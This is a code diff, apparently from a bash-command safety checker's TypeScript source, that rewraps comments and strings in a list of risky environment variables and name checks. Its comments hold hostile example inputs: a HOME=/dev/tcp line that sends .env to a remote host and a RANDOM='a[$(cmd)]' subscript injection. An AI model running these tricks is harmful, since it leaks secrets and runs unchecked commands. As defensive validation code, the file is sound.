@@ -27,7 +27,8 @@ const RISKY = new RegExp(
     'SHELLOPTS',
     'BASHOPTS',
     'PS4',
-    // Where `~` points (`HOME=/dev/tcp/h/80; cat .env > ~` opens a connection) and where tools read their configuration (git's ~/.gitconfig can name a pager).
+    // Where `~` points (`HOME=/dev/tcp/h/80; cat .env > ~` opens a connection) and where tools read their configuration
+    // (git's ~/.gitconfig can name a pager).
     'HOME',
     'XDG_CONFIG_HOME',
     // The dynamic linker and interpreters' start-up code.
@@ -49,7 +50,8 @@ const RISKY = new RegExp(
     'LESSOPEN',
     'LESSCLOSE',
     'SSH_ASKPASS',
-    'GIT_(SSH|SSH_COMMAND|EXTERNAL_DIFF|EDITOR|SEQUENCE_EDITOR|ASKPASS|EXEC_PATH|CONFIG_PARAMETERS|CONFIG_COUNT|CONFIG_KEY_\\d+|CONFIG_VALUE_\\d+|CONFIG|CONFIG_GLOBAL|CONFIG_SYSTEM|TEMPLATE_DIR|PROXY_COMMAND)',
+    'GIT_(SSH|SSH_COMMAND|EXTERNAL_DIFF|EDITOR|SEQUENCE_EDITOR|ASKPASS|EXEC_PATH|CONFIG_PARAMETERS|CONFIG_COUNT|' +
+      'CONFIG_KEY_\\d+|CONFIG_VALUE_\\d+|CONFIG|CONFIG_GLOBAL|CONFIG_SYSTEM|TEMPLATE_DIR|PROXY_COMMAND)',
     // Files tools write: git appends its traces to any path (GIT_TRACE2_EVENT=/workspace/x), and
     // `git status` rewrites the index GIT_INDEX_FILE names; GIT_DIR and friends point git at another
     // repository, whose config the wrapper does not see.
@@ -85,7 +87,10 @@ const RISKY = new RegExp(
   ].join('|')})$`,
 );
 
-/** Bash evaluates a value assigned to these as arithmetic, which runs `$(…)` in an array subscript (`RANDOM='a[$(cmd)]'`). */
+/**
+ * Bash evaluates a value assigned to these as arithmetic, which runs `$(…)` in an array subscript
+ * (`RANDOM='a[$(cmd)]'`).
+ */
 const ARITHMETIC_ON_ASSIGN = /^(RANDOM|SRANDOM|OPTIND|HISTCMD)$/;
 
 /** Stands for a value that is not known (`read PAGER` could read anything). */
@@ -121,7 +126,10 @@ const PLAIN_NAME = /^[A-Za-z_][A-Za-z0-9_]*(\[(\d+|[@*])\])?$/s;
 export function nameProblem(what: string, w: Word, sets = true): string | undefined {
   if (!w.literal) return `${what}: the variable name ${short(w.value)} is only known at run time`;
   if (!PLAIN_NAME.test(w.value))
-    return `${what}: ${short(w.value)} is not a plain variable name (bash evaluates a subscript, which can run commands)`;
+    return (
+      `${what}: ${short(w.value)} is not a plain variable name (bash evaluates a subscript, which can run ` +
+      `commands)`
+    );
   if (sets && riskyVariable(w.value, ANY_VALUE))
     return `${what} sets ${baseName(w.value)}, which changes what later commands run`;
   return undefined;
@@ -134,7 +142,10 @@ export function nameProblem(what: string, w: Word, sets = true): string | undefi
  */
 export type Condition = { names: string[]; problem: string } | { prefix: string; name: string; problem: string };
 
-/** How a line sets a variable once: `integer` as in evaluation.ts's integerNode; `text` when the value is a literal word. */
+/**
+ * How a line sets a variable once: `integer` as in evaluation.ts's integerNode; `text` when the value is a literal
+ * word.
+ */
 export interface Binding {
   integer: string[] | null;
   text?: string;
